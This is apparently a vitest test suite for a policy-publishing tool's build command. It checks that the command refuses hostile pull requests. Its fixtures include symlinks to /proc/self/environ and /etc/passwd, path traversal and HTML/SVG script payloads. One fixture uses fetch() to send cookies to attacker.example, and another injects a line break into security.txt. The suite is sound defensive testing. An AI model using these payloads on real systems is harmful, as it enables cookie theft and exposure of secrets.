// Hostile pull requests against `charter build`: what a policy links to, the logo, document ids
// and the output folder. Each case describes the attack, then asserts the exit status, the exact
// output, and that nothing was published (no dist/ at all when the build is refused).
import {execFileSync} from 'node:child_process'
import {existsSync, linkSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {gunzipSync} from 'node:zlib'
import {describe, expect, it} from 'vitest'
import {commitDate} from '../fixtures/bundle-repo'
import {policy} from '../fixtures/documents'
import {charter, makeRepo, projectRoot, runGit} from '../helpers'

const onePixelPng = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64')
const baseConfig = 'organization:\n  name: Example Corp\n  short_name: Example\n  security_contact: security@example.test\n'

/** A committed repository with one public policy whose Purpose section reads `purpose` (on line 16). */
function repository(purpose: string, files: Record<string, string | Uint8Array> = {}, config = ''): string {
  const root = makeRepo({
    'policies/alpha.md': policy('alpha', {title: 'Alpha Policy', last_reviewed: '2026-11-02'}).replace('Text for purpose.', purpose),
    'charter.config.yaml': `${baseConfig}${config}`,
    '.gitignore': 'dist/\n',
    ...files
  })
  return root
}

function commit(root: string): void {
  runGit(root, ['init', '-q', '-b', 'main'])
  runGit(root, ['add', '-A'])
  runGit(root, ['commit', '-q', '-m', 'Add the policy'], {GIT_AUTHOR_DATE: commitDate, GIT_COMMITTER_DATE: commitDate})
}

/** What a refused build prints: the findings as `charter check` shows them, then the refusal. */
function refusal(file: string, place: string, message: string, rule = 'published-files'): string {
  return `${file}\n${place} error ${message} ${rule} charter\n\n✖ 1 error\ncharter: build refused: \`charter check\` finds 1 error; fix it and build again, or pass --allow-errors for a bundle marked unofficial\n`
}

async function expectRefused(root: string, stderr: string): Promise<void> {
  const run = await charter(['build'], root)
  expect(run.stderr).toBe(stderr)
  expect(run.stdout).toBe('')
  expect(run.status).toBe(1)
  expect(existsSync(join(root, 'dist'))).toBe(false)
  expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
}

/** Built anyway: the hostile file is not in the bundle, and nothing in it holds its bytes. */
async function expectLeftOut(root: string, secret: string): Promise<void> {
  const run = await charter(['build', '--no-pdf', '--allow-errors'], root)
  expect(run.status).toBe(0)
  const manifest = JSON.parse(readFileSync(join(root, 'dist/manifest.json'), 'utf8'))
  expect(Object.keys(manifest.files).filter((path: string) => path.startsWith('site/files/') || path.startsWith('site/logo'))).toEqual([])
  for (const path of Object.keys(manifest.files)) expect(readFileSync(join(root, 'dist', path), 'utf8').includes(secret), path).toBe(false)
}

const purposeLink = (text: string, target: string) => `The [${text}](${target}) is attached.`
// `The [` is 5 characters: every link below starts at line 16, column 5.
const at = (target: string, text: string) => `16:5-16:${5 + `[${text}](${target})`.length}`

/** A committed repository with one document and `organization.security_contact` set to `value`, as written in YAML. */
function repositoryWithContact(value: string): string {
  const root = makeRepo({
    'policies/alpha.md': policy('alpha', {title: 'Alpha Policy', last_reviewed: '2026-11-02'}),
    'charter.config.yaml': `organization:\n  security_contact: ${value}\n`,
    '.gitignore': 'dist/\n'
  })
  commit(root)
  return root
}

describe('attachments', () => {
  // A symbolic link to the CI runner's environment, tokens included, named like evidence.
  it('refuses a symlink to /proc/self/environ', async () => {
    const root = repository(purposeLink('environment', 'env.txt'))
    symlinkSync('/proc/self/environ', join(root, 'policies/env.txt'))
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('env.txt', 'environment'), 'Unexpected symbolic link `policies/env.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
    const check = await charter(['check', '--today', '2026-11-20', '--format', 'json'], root)
    expect(check.status).toBe(1)
    expect(JSON.parse(check.stdout).findings.map((finding: {rule: string; line: number; column: number}) => `${finding.rule} ${finding.line}:${finding.column}`)).toEqual(['published-files 16:5'])
    await expectLeftOut(root, 'PATH=')
  })

  // The runner's password file, published on the security page.
  it('refuses a symlink to /etc/passwd', async () => {
    const root = repository(purposeLink('accounts', 'accounts.txt'))
    symlinkSync('/etc/passwd', join(root, 'policies/accounts.txt'))
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('accounts.txt', 'accounts'), 'Unexpected symbolic link `policies/accounts.txt`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
    await expectLeftOut(root, 'root:x:0:0')
  })

  // An endless device: copying it would hang the publish job while memory grows.
  it('refuses a symlink to /dev/zero without reading it', async () => {
    const root = repository(purposeLink('data', 'data.csv'))
    symlinkSync('/dev/zero', join(root, 'policies/data.csv'))
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('data.csv', 'data'), 'Unexpected symbolic link `policies/data.csv`, expected a regular file: the attachment would publish whatever the link points at; copy the file into the repository instead of linking to it'))
  })

  // A hard link gives a file outside policies/ a second name inside it.
  it('refuses a hard link', async () => {
    const root = repository(purposeLink('copy', 'copy.txt'), {'private/keys.txt': 'secret key material\n'})
    linkSync(join(root, 'private/keys.txt'), join(root, 'policies/copy.txt'))
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('copy.txt', 'copy'), 'Unexpected hard link `policies/copy.txt` (the file has 2 names on disk), expected a file of its own; replace it with a copy'))
  })

  // A named pipe blocks whoever opens it for reading until a writer comes: check and build hang.
  it('refuses a named pipe without waiting on it', async () => {
    const root = repository(purposeLink('feed', 'feed.txt'))
    commit(root)
    execFileSync('mkfifo', [join(root, 'policies/feed.txt')])
    await expectRefused(root, refusal('policies/alpha.md', at('feed.txt', 'feed'), 'Unexpected named pipe `policies/feed.txt`, expected a regular file; replace it with the file itself'))
  })

  // A named pipe as a document: reading it would hang check before any rule ran.
  it('reports a named pipe named like a document, and checks the others', async () => {
    const root = repository('Text for purpose.')
    commit(root)
    execFileSync('mkfifo', [join(root, 'policies/beta.md')])
    const run = await charter(['check', '--today', '2026-11-20'], root)
    expect(run.stdout).toBe('policies/beta.md\n1:1-1:1 error Unexpected named pipe, expected a regular file; replace it with the document itself file-readable charter\n\n✖ 1 error\n')
    expect(run.status).toBe(1)
  })

  // An HTML page as evidence runs its script on the security page's origin.
  it('refuses an .html attachment, advising PDF', async () => {
    const root = repository(purposeLink('evidence', 'evidence.html'), {'policies/evidence.html': '<!doctype html><script>fetch("https://attacker.example/?c=" + document.cookie)</script>\n'})
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('evidence.html', 'evidence'), 'Unexpected `.html` attachment `policies/evidence.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
    await expectLeftOut(root, 'attacker.example')
  })

  // An SVG is an image that can hold <script> and event handlers.
  it('refuses an SVG attachment holding script', async () => {
    const root = repository('The ![diagram](diagram.svg) shows the flow.', {'policies/diagram.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n'})
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', '16:5-16:28', 'Unexpected `.svg` attachment `policies/diagram.svg`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; export it as PNG'))
    await expectLeftOut(root, 'alert(')
  })

  // HTML named .png passes an extension check; the leading bytes give it away.
  it('refuses a .png attachment whose content is HTML', async () => {
    const root = repository('The ![screenshot](screenshot.png) shows the setting.', {'policies/screenshot.png': '<html><body onload="alert(1)"></body></html>\n'})
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', '16:5-16:34', 'Unexpected HTML content in `policies/screenshot.png`, expected a PNG image as its extension says; export it again as PNG'))
  })

  // A huge file: the page is for reading, and a build must stay bounded.
  it('refuses an attachment over 10 MB', async () => {
    const root = repository(purposeLink('scan', 'scan.pdf'), {'policies/scan.pdf': Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10 * 1024 * 1024)])})
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', at('scan.pdf', 'scan'), 'Unexpected 10 MB attachment `policies/scan.pdf`, expected one under 10 MB; make it smaller, or link to it with a full https:// URL'))
  })

  // `[text][ref]` with `[ref]: page.html` hides the address in a definition.
  it('refuses an HTML attachment named in a reference definition', async () => {
    const root = repository('The [evidence][e] is attached.\n\n[e]: page.html', {'policies/page.html': '<script>alert(1)</script>\n'})
    commit(root)
    await expectRefused(root, refusal('policies/alpha.md', '18:1-18:15', 'Unexpected `.html` attachment `policies/page.html`, expected PDF, PNG, JPEG, plain text (.txt) or CSV, which cannot run script on the security page; convert it to PDF'))
    await expectLeftOut(root, 'alert(')
  })

  // `../` climbs out of policies/ to a file the bundle should never hold.
  it('refuses a ../ link to a file outside policies/', async () => {
    const root = repository(purposeLink('keys', '../private/keys.txt'), {'private/keys.txt': 'secret key material\n'})
    commit(root)
    await expectRefused(
      root,
      refusal('policies/alpha.md', at('../private/keys.txt', 'keys'), 'Unexpected link to `../private/keys.txt` outside policies/: the published bundle holds documents only; link with a full https:// URL instead', 'links')
    )
    await expectLeftOut(root, 'secret key material')
  })

  // The same climb, percent-encoded so that a check on the raw text misses it.
  it('refuses a percent-encoded %2e%2e%2f link out of policies/', async () => {
    const root = repository(purposeLink('keys', '%2e%2e%2fprivate%2fkeys.txt'), {'private/keys.txt': 'secret key material\n'})
    commit(root)
    await expectRefused(
      root,
      refusal('policies/alpha.md', at('%2e%2e%2fprivate%2fkeys.txt', 'keys'), 'Unexpected link to `%2e%2e%2fprivate%2fkeys.txt` outside policies/: the published bundle holds documents only; link with a full https:// URL instead', 'links')
    )
    await expectLeftOut(root, 'secret key material')
  })
})

describe('the logo', () => {
  const logoAt = '6:9-6:24'
  const withLogo = (files: Record<string, string | Uint8Array> = {}) => repository('Text for purpose.', files, 'branding:\n  logo: assets/logo.png\n')

  // branding.logo pointing, through a link, at the runner's environment.
  it('refuses a logo that is a symlink to /proc/self/environ', async () => {
    const root = withLogo()
    mkdirSync(join(root, 'assets'))
    symlinkSync('/proc/self/environ', join(root, 'assets/logo.png'))
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
    await expectLeftOut(root, 'PATH=')
  })

  // The logo as a link to /etc/passwd.
  it('refuses a logo that is a symlink to /etc/passwd', async () => {
    const root = withLogo()
    mkdirSync(join(root, 'assets'))
    symlinkSync('/etc/passwd', join(root, 'assets/logo.png'))
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
    await expectLeftOut(root, 'root:x:0:0')
  })

  // The logo as a link to /dev/zero, which would hang the build.
  it('refuses a logo that is a symlink to /dev/zero', async () => {
    const root = withLogo()
    mkdirSync(join(root, 'assets'))
    symlinkSync('/dev/zero', join(root, 'assets/logo.png'))
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected symbolic link `assets/logo.png`, expected a regular file: the logo would publish whatever the link points at; copy the file into the repository instead of linking to it'))
  })

  // An SVG logo keeps its onload handler on every page.
  it('refuses an SVG logo', async () => {
    const root = repository('Text for purpose.', {'assets/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'}, 'branding:\n  logo: assets/logo.svg\n')
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `.svg` logo `assets/logo.svg`, expected PNG or JPEG (an SVG can carry script); export it as PNG'))
    await expectLeftOut(root, 'alert(')
  })

  // A logo that does not exist used to pass check and crash build.
  it('refuses a missing logo at check time', async () => {
    const root = withLogo()
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected `branding.logo` `assets/logo.png`: no such file in the repository; add the image, or remove `branding.logo`'))
  })

  // A folder named like an image used to pass check and crash build.
  it('refuses a folder as the logo', async () => {
    const root = withLogo({'assets/logo.png/readme.txt': 'not an image\n'})
    commit(root)
    await expectRefused(root, refusal('charter.config.yaml', logoAt, 'Unexpected folder `assets/logo.png` as `branding.logo`, expected a PNG or JPEG file; name the image itself, e.g. `assets/logo.png/logo.png`'))
  })

  // For contrast: a real PNG is published.
  it('publishes a PNG logo', async () => {
    const root = withLogo({'assets/logo.png': onePixelPng})
    commit(root)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr).toBe('')
    expect(run.status).toBe(0)
    expect(readFileSync(join(root, 'dist/site/logo.png'))).toEqual(onePixelPng)
  })
})

describe('coverage from documents the public bundle leaves out', () => {
  // The public controls page counts internal documents' controls. A pull request could try to
  // make it name an internal document (its id, title or a title carrying markup), or to hide a
  // gap behind a draft that claims the control: the page names none, and a draft counts for nothing.
  it('names no internal document, and lets no draft close a gap', async () => {
    const root = repository('Text for purpose.', {
      'policies/secret-merger-plan.md': policy('secret-merger-plan', {title: '"Project <b>Falcon</b> merger"', classification: 'confidential', last_reviewed: '2026-11-02', controls: '{soc2: [CC7.3]}'}),
      'policies/gap-hider.md': policy('gap-hider', {title: 'Gap Hider', classification: 'internal', status: 'draft', last_reviewed: '2026-11-02', controls: '{soc2: [CC7.2]}'})
    })
    commit(root)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr).toBe('')
    expect(run.status).toBe(0)
    const page = readFileSync(join(root, 'dist/site/controls.html'), 'utf8')
    const row = (id: string) => `<th scope="row" id="control-soc2-${id}">${id}</th>`
    const cell = (id: string) => page.slice(page.indexOf(row(id)), page.indexOf('</tr>', page.indexOf(row(id)))).replace(/\s*\n\s*/g, '')
    expect(cell('CC7.3')).toBe('<th scope="row" id="control-soc2-CC7.3">CC7.3</th><td>Security events triaged to identify incidents</td><td><span class="internal">covered by an internal policy (available on request)</span></td>')
    expect(cell('CC7.2')).toBe('<th scope="row" id="control-soc2-CC7.2">CC7.2</th><td>System components monitored for anomalous behavior</td><td><span class="gap">not yet addressed by a policy</span></td>')
    for (const name of ['secret-merger-plan', 'Falcon', 'merger', 'gap-hider', 'Gap Hider']) expect(page).not.toContain(name)
  })

  // The search index is published too: words only an internal document holds must not be in it.
  it("keeps an internal document's words out of the public search index", async () => {
    const root = repository('Text for purpose, and the word Kestrelwing.', {
      'policies/merger.md': policy('merger', {title: 'Merger Plan', classification: 'internal', last_reviewed: '2026-11-02'}).replace('Text for purpose.', 'The buyer is Ospreyfield.')
    })
    commit(root)
    // Pagefind's files are gzip-compressed; their text is searched as a reader's browser would read it.
    const indexText = (dir: string) =>
      readdirSync(join(root, dir, 'site/pagefind'), {recursive: true, withFileTypes: true})
        .filter((entry) => entry.isFile())
        .map((entry) => readFileSync(join(entry.parentPath, entry.name)))
        .map((bytes) => (bytes[0] === 0x1f && bytes[1] === 0x8b ? gunzipSync(bytes) : bytes).toString('latin1'))
        .join('\n')
        .toLowerCase()
    for (const [audience, out] of [['public', 'dist'], ['internal', 'dist-internal']]) {
      const run = await charter(['build', '--no-pdf', '--audience', audience!, '--out', out!], root)
      expect(run.status, run.stderr).toBe(0)
    }
    expect(indexText('dist')).toContain('kestrelwing')
    expect(indexText('dist')).not.toContain('ospreyfield')
    expect(indexText('dist')).not.toContain('merger plan')
    expect(indexText('dist-internal')).toContain('ospreyfield')
  })
})

describe('document ids and the bundle', () => {
  // A document whose id names one of the site's own pages (or the combined PDF) replaced it,
  // and verify still passed: the customer saw the document instead of the index.
  it.each([
    ['index', 'site/index.html'],
    ['controls', 'site/controls.html'],
    ['changelog', 'site/changelog.html'],
    ['search', 'site/search.html'],
    ['security-policies', 'pdf/security-policies.pdf']
  ])('keeps a document with id `%s` from replacing %s', async (id, own) => {
    const root = makeRepo({'policies/alpha.md': policy('alpha', {title: 'Alpha Policy', last_reviewed: '2026-11-02'}), [`policies/${id}.md`]: policy(id, {title: 'Impostor Page', last_reviewed: '2026-11-02'}), 'charter.config.yaml': baseConfig, '.gitignore': 'dist/\n'})
    commit(root)
    const pdf = own.endsWith('.pdf')
    const run = await charter(['build', ...(pdf ? [] : ['--no-pdf'])], root)
    expect(run.status).toBe(0)
    const manifest = JSON.parse(readFileSync(join(root, 'dist/manifest.json'), 'utf8'))
    expect(manifest.documents.find((document: {id: string}) => document.id === id)).toMatchObject({page: `site/documents/${id}.html`, pdf: pdf ? `pdf/documents/${id}.pdf` : null})
    expect(readFileSync(join(root, 'dist/site/documents', `${id}.html`), 'utf8')).toContain('<h1>Impostor Page</h1>')
    if (pdf) expect(readFileSync(join(root, 'dist', own)).length).toBeGreaterThan(readFileSync(join(root, 'dist/pdf/documents', `${id}.pdf`)).length)
    else expect(readFileSync(join(root, 'dist', own), 'utf8')).not.toContain('<h1>Impostor Page</h1>')
    expect((await charter(['verify', 'dist'], root)).status).toBe(0)
  })

  // A web-app manifest.json in docs/ made build take the folder for its own and delete the rest.
  it('refuses --out at a folder whose manifest.json is not charter\'s', async () => {
    const root = repository('Text for purpose.', {'docs/manifest.json': '{"name": "Example app", "icons": []}\n', 'docs/guide.md': '# Guide\n'})
    commit(root)
    const run = await charter(['build', '--no-pdf', '--out', 'docs'], root)
    expect(run.stderr).toBe('charter: docs/manifest.json is not a manifest written by `charter build`, so docs is not a bundle; choose another --out, or empty it\n')
    expect(run.status).toBe(1)
    expect(readdirSync(join(root, 'docs')).sort()).toEqual(['guide.md', 'manifest.json'])
    expect(readdirSync(root).filter((name) => name.startsWith('docs.'))).toEqual([])
  })

  // A manifest copied from a real bundle does not make the folder's other files charter's.
  it('refuses --out at a folder holding files its charter manifest does not list', async () => {
    const root = repository('Text for purpose.', {'docs/guide.md': '# Guide\n', 'docs/notes/todo.md': 'keep\n', 'docs/extra.txt': 'keep\n'})
    commit(root)
    expect((await charter(['build', '--no-pdf', '--out', 'built'], root)).status).toBe(0)
    writeFileSync(join(root, 'docs/manifest.json'), readFileSync(join(root, 'built/manifest.json')))
    const run = await charter(['build', '--no-pdf', '--out', 'docs'], root)
    expect(run.stderr).toBe('charter: docs holds 3 files its manifest does not list (`extra.txt`, `guide.md`, `notes/todo.md`), so replacing the bundle would delete them; move them away, or choose another --out\n')
    expect(run.status).toBe(1)
    expect(readdirSync(join(root, 'docs')).sort()).toEqual(['extra.txt', 'guide.md', 'manifest.json', 'notes'])
  })

  // --out naming a file crashed with an internal error.
  it('refuses --out at a file as a usage error', async () => {
    const root = repository('Text for purpose.', {'notes.txt': 'keep me\n'})
    commit(root)
    const run = await charter(['build', '--out', 'notes.txt'], root)
    expect(run.stderr).toBe('charter: build: --out notes.txt is a file, expected a folder for the bundle; pass another --out, e.g. --out dist\n')
    expect(run.status).toBe(2)
    expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('keep me\n')
    expect(readdirSync(root).filter((name) => name.startsWith('notes.txt.'))).toEqual([])
  })

  // --out inside a file: the write fails part-way, which crashed with an internal error.
  it('refuses --out below a file in one line, leaving nothing behind', async () => {
    const root = repository('Text for purpose.', {'notes.txt': 'keep me\n'})
    commit(root)
    const run = await charter(['build', '--no-pdf', '--out', 'notes.txt/dist'], root)
    expect(run.stderr).toBe('charter: build: ENOTDIR: a part of the path is a file, not a folder while writing the bundle to notes.txt/dist; pass an --out whose parent folders are folders. Nothing was replaced\n')
    expect(run.status).toBe(1)
    expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('keep me\n')
  })

  // A fork's layout without the Content-Security-Policy would let any planted script run.
  it('refuses a site layout that drops the Content-Security-Policy', async () => {
    const root = repository('Text for purpose.', {'templates/site/layout.hbs': '<!doctype html>\n<html lang="en">\n<head>\n<title>{{pageTitle}}</title>\n</head>\n<body>{{{content}}}<script>alert(1)</script></body>\n</html>\n'})
    commit(root)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr).toBe(
      'charter: templates/site/layout.hbs: Unexpected page head, expected it to open with <meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'self\'; img-src \'self\'; base-uri \'none\'; form-action \'none\'"> (after <meta charset="utf-8">), so no script on the page runs; restore that line from Charter\'s layout.hbs\n'
    )
    expect(run.status).toBe(1)
    expect(existsSync(join(root, 'dist'))).toBe(false)
    expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
  })

  // The search page allows the site's own scripts, so a script element naming any file of the
  // site (an attachment of plain text, say) would run there: only search.js may be named.
  it.each([
    ['an attachment named by the search page', 'templates/site/search.hbs', '<h1>Search</h1>\n<script src="files/run.txt"></script>\n<script type="module" src="search.js"></script>\n', 2],
    ['an SVG script in the layout', 'templates/site/layout.hbs', null, 2],
    ['search.js, as a classic script', 'templates/site/search.hbs', '<h1>Search</h1>\n<script src="search.js"></script>\n', 1]
  ])('refuses a search page that holds %s', async (_, path, template, count) => {
    const layout = readFileSync(join(projectRoot, 'templates/site/layout.hbs'), 'utf8').replace('</footer>', '</footer>\n<svg aria-hidden="true"><script href="files/run.txt"></script></svg>')
    const root = repository('The [notes](run.txt) are attached.', {'policies/run.txt': "console.log('ran: attachment')\n", [path]: template ?? layout})
    commit(root)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr).toBe(
      `charter: templates/site/search.hbs: Unexpected script elements (${count}) on the search page, expected exactly <script type="module" src="search.js"></script>, the one script the site runs; remove the others from the search page and the layout\n`
    )
    expect(run.status).toBe(1)
    expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
  })

  // npm skips an optional dependency for another platform, or with --omit=optional: Pagefind's program is then missing.
  it("names Pagefind's missing program and the fix, leaving nothing behind", async () => {
    const root = repository('Text for purpose.')
    commit(root)
    const run = await charter(['build', '--no-pdf'], root, {npm_config_arch: 'sparc'})
    expect(run.stderr).toBe(
      "charter: the search index needs Pagefind's program for linux-sparc (npm package @pagefind/linux-sparc), which is not installed; run `npm ci` without --omit=optional, or set PAGEFIND_BINARY_PATH to a pagefind binary\n"
    )
    expect(run.status).toBe(1)
    expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
  })

  // A bundle whose file is a link to a copy elsewhere: verify read through the link and vouched for it.
  it('does not let verify vouch for a file outside the bundle through a symlink', async () => {
    const root = repository('Text for purpose.')
    commit(root)
    expect((await charter(['build', '--no-pdf'], root)).status).toBe(0)
    writeFileSync(join(root, 'elsewhere.css'), readFileSync(join(root, 'dist/site/style.css')))
    rmSync(join(root, 'dist/site/style.css'))
    symlinkSync(join(root, 'elsewhere.css'), join(root, 'dist/site/style.css'))
    const run = await charter(['verify', 'dist'], root)
    expect(run.stdout).toBe('dist: 1 problem\n  site/style.css: not a regular file (a symbolic link, or a device); a bundle holds files only\n')
    expect(run.status).toBe(1)
  })

  // A fork template linked to the runner's environment would be rendered into every page.
  it('refuses a template that is a symlink to /proc/self/environ', async () => {
    const root = repository('Text for purpose.')
    mkdirSync(join(root, 'templates/site'), {recursive: true})
    symlinkSync('/proc/self/environ', join(root, 'templates/site/style.css'))
    commit(root)
    // check reports it (so CI stops the pull request), and build refuses on check's word.
    const checked = await charter(['check', '--today', '2026-12-01', '--format', 'github'], root)
    expect(checked.stdout).toBe(
      '::error file=templates/site/style.css,line=1,col=1,endLine=1,endColumn=1,title=site-templates::Unexpected symbolic link, expected a regular file: a template is published as part of every page; copy the file instead of linking to it\ncharter: 1 document checked, 1 error, 0 warnings\n'
    )
    expect(checked.status).toBe(1)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr.split('\n').slice(-2)).toEqual(['charter: build refused: `charter check` finds 1 error; fix it and build again, or pass --allow-errors for a bundle marked unofficial', ''])
    expect(run.status).toBe(1)
    // Even with --allow-errors the build never reads through the link.
    const forced = await charter(['build', '--no-pdf', '--allow-errors'], root)
    expect(forced.stderr).toBe('charter: templates/site/style.css: Unexpected symbolic link, expected a regular file: a template is published as part of every page; copy the file instead of linking to it\n')
    expect(forced.status).toBe(1)
    expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
  })

  // policies/ itself as a link: check and build would walk, and publish from, wherever it points.
  it('refuses a documents folder that is a symlink', async () => {
    const root = makeRepo({'elsewhere/alpha.md': policy('alpha', {last_reviewed: '2026-11-02'}), 'charter.config.yaml': baseConfig, '.gitignore': 'dist/\n'})
    symlinkSync('elsewhere', join(root, 'policies'))
    commit(root)
    const message = 'policies/ is a symbolic link, expected the folder itself inside the repository; replace the link with the documents'
    const build = await charter(['build', '--no-pdf'], root)
    expect(build.stderr).toBe(`charter: build: ${message}\n`)
    expect(build.status).toBe(2)
    expect(readdirSync(root).filter((name) => name.startsWith('dist'))).toEqual([])
    const check = await charter(['check'], root)
    expect(check.stderr).toBe(`charter: check: ${message}\n`)
    expect(check.status).toBe(2)
  })
})

describe('security.txt', () => {
  const securityTxt = (root: string) => join(root, 'dist/.well-known/security.txt')

  // A line break in the policy URL would start a field of its own: a second Contact an attacker reads.
  it('refuses a policy URL with a line break, at its config line', async () => {
    const root = repository('Text for purpose.', {}, 'security_txt:\n  policy: "https://acme.test/p\\r\\nContact: mailto:attacker@evil.test"\n')
    commit(root)
    const run = await charter(['build', '--no-pdf'], root)
    expect(run.stderr).toBe(
      'charter.config.yaml\n6:11-6:70 error Unexpected `security_txt.policy` value `https://acme.test/p\\u000d\\u000aContact: mailto:attacker@evil.test`, expected an https:// address without spaces, e.g. `https://example.org/security/disclosure` config-schema charter\n\n✖ 1 error\ncharter: fix charter.config.yaml first; `charter check` reports the same problems\n'
    )
    expect(run.status).toBe(1)
    expect(existsSync(join(root, 'dist'))).toBe(false)
  })

  // The same through the contact: it is no address, so the file is left out, never split.
  it('leaves security.txt out for a contact with a line break, and warns', async () => {
    const root = repositoryWithContact('"security@acme.test\\nContact: mailto:attacker@evil.test"')
    const check = await charter(['check', '--today', '2026-11-20'], root)
    expect(check.stdout).toBe(
      'charter.config.yaml\n2:21-2:77 warning Unexpected `organization.security_contact` value `security@acme.test\\u000aContact: mailto:attacker@evil.test`, expected an email address such as `security@example.org` or an https:// URL; security.txt is left out of the bundle until it is one security-contact charter\n\n⚠ 1 warning\n'
    )
    expect((await charter(['build', '--no-pdf'], root)).status).toBe(0)
    expect(existsSync(securityTxt(root))).toBe(false)
    expect(readFileSync(join(root, 'dist/manifest.json'), 'utf8')).not.toContain('well-known')
  })

  // A script URL as the contact would run on a researcher's click; it is never published as a link.
  it('leaves security.txt out for a javascript: contact', async () => {
    const root = repositoryWithContact('"javascript:alert(1)//https://acme.test"')
    const check = await charter(['check', '--today', '2026-11-20'], root)
    expect(check.stdout).toBe(
      'charter.config.yaml\n2:21-2:61 warning Unexpected `organization.security_contact` value `javascript:alert(1)//https://acme.test`, expected an email address such as `security@example.org` or an https:// URL; security.txt is left out of the bundle until it is one security-contact charter\n\n⚠ 1 warning\n'
    )
    expect((await charter(['build', '--no-pdf'], root)).status).toBe(0)
    expect(existsSync(securityTxt(root))).toBe(false)
    expect(readFileSync(join(root, 'dist/site/index.html'), 'utf8')).not.toContain('href="javascript:')
  })

  // 10,000 characters: the message shows 60 of them, and nothing publishes the rest.
  it('leaves security.txt out for a contact of 10,000 characters, and says so briefly', async () => {
    const long = `${'a'.repeat(9_990)}@acme.test`
    const root = repositoryWithContact(long)
    const check = await charter(['check', '--today', '2026-11-20'], root)
    expect(check.stdout).toBe(
      `charter.config.yaml\n2:21-2:10021 warning Unexpected \`organization.security_contact\` value \`${'a'.repeat(60)}…\`, expected a contact of at most 500 characters, not 10000; security.txt is left out of the bundle until it is one security-contact charter\n\n⚠ 1 warning\n`
    )
    expect((await charter(['build', '--no-pdf'], root)).status).toBe(0)
    expect(existsSync(securityTxt(root))).toBe(false)
  })
})
